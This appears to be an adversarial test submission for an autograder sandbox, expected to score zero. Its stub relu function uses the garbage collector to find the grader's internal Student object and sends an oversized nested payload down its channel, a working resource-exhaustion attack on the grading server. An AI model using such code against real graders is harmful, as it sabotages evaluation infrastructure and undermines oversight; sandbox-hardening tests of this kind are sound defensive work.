"""Return a list of very many objects, each of which would become a proxy.

points: 0
"""

import gc
from autograder.sandbox.inside.server import Student
from autograder.runtime.frames import HEAD
def relu(z):
    channel = next(o for o in gc.get_objects() if type(o) is Student).channel
    text = b'[[[' + b'{"o":{}},' * 700_000 + b'1],{"d":[]},null,[],false],[]]'
    channel.send(HEAD.pack(len(text), 0) + text)
    return z
